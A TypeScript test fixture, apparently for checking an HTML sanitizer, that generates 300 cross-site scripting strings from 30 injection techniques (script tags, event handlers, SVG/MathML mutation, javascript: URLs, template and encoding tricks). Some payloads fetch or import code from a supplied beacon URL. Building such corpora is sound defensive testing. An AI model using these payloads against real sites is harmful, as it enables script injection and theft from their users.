// Owns three hundred texts that would run something, or fetch something, wherever they were taken for markup.

/** What each would do. */
const deeds = (beacon: string) => [
  "document.title='owned'",
  'alert(1)',
  `new Image().src='${beacon}'`,
  `import('${beacon}')`,
  `fetch('${beacon}')`,
];

/** How each would get to do it. */
const WAYS: readonly ((deed: string, beacon: string, nth: number) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `<ScRiPt >${deed}</sCrIpT>`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img/src/onerror=${deed}>`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<a href="javascript:${deed}" autofocus>read more</a>`,
  (deed) => `<form><button formaction="javascript:${deed}">Next</button></form>`,
  (deed) => `<math><mtext><table><mglyph><style><img src=x onerror="${deed}">`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `"><img src=x onerror="${deed}">`,
  (deed) => `'-${deed}-'`,
  (deed) => `\`\${${deed}}\``,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;img src=x onerror=&#34;${deed}&#34;&#62;`,
  (deed) => `\u003cscript\u003e${deed}\u003c/script\u003e`,
  (deed) => `<style>*{background:url("javascript:${deed}")}</style>`,
  (_deed, beacon, nth) => `<link rel=stylesheet href="${beacon}?${nth}">`,
  (_deed, beacon, nth) => `<meta http-equiv=refresh content="0;url=${beacon}?${nth}">`,
];

export type Written = {
  readonly written: string;
  /** How it reads to a person; null: whoever takes the markup away does not promise how much is left of it. */
  readonly shown: string | null;
};

/** Each twice: as markup, and as text that says how markup is written. */
export function xssTexts(beacon: string): Written[] {
  const texts = WAYS.flatMap((way, kind) =>
    deeds(beacon).map((deed, nth) => `${way(deed, beacon, nth)} (${kind}, ${nth})`),
  );
  return texts.flatMap((text) => [
    { written: `${text} as it is`, shown: null },
    { written: escaped(text), shown: text },
  ]);
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}
